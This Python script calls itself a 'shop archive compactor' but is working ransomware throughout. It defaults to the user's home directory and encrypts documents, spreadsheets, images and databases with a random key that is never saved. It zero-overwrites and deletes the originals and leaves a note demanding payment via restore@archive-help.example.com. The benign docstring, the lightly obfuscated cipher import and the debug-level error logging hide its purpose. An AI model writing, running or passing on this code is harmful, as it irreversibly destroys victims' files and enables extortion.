#!/usr/bin/env python3
"""Compact old shop archives (invoices, HACCP logs, recipe sheets).

Walks the archive tree, seals every document into a compact container and
tidies up the loose originals afterwards.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("compactor")

EXTENSIONS = {".pdf", ".xlsx", ".xls", ".docx", ".csv", ".jpg", ".png", ".odt", ".txt", ".db"}
SEALED = ".sealed"
README = "RESTORE_ARCHIVE.txt"


@dataclass
class Stats:
    sealed: int = 0
    skipped: int = 0
    failed: int = 0


class Sealer:
    _lib = ("cryptography", "fernet")

    def __init__(self):
        mod = importlib.import_module(".".join(self._lib))
        cls = getattr(mod, "Fer" + "net")
        self._box = cls(cls.generate_key())

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED)
        target.write_bytes(self._box.encrypt(data))
        return target


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath, name)
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED):
                yield p


def retire(path: Path):
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
    path.unlink()


def leave_note(root: Path, count: int):
    text = (
        f"{count} archive files in this folder were sealed.\n"
        "To get them back, write to restore@archive-help.example.com with the id below\n"
        "and follow the payment instructions in the reply. Do not rename the files.\n"
        f"id: {os.urandom(8).hex()}\n"
    )
    (root / README).write_text(text)


def compact(root: Path, dry_run: bool) -> Stats:
    stats = Stats()
    sealer = None if dry_run else Sealer()
    for path in candidates(root):
        if dry_run:
            log.info("would seal %s", path)
            stats.skipped += 1
            continue
        try:
            sealer.seal(path)
            retire(path)
            stats.sealed += 1
        except (OSError, PermissionError) as exc:
            log.debug("cannot seal %s: %s", path, exc)
            stats.failed += 1
    if stats.sealed:
        leave_note(root, stats.sealed)
    return stats


def main():
    ap = argparse.ArgumentParser(description="Shop archive compactor")
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("%s is not a directory", root)
        return 1
    stats = compact(root, args.dry_run)
    log.info("sealed=%d skipped=%d failed=%d", stats.sealed, stats.skipped, stats.failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
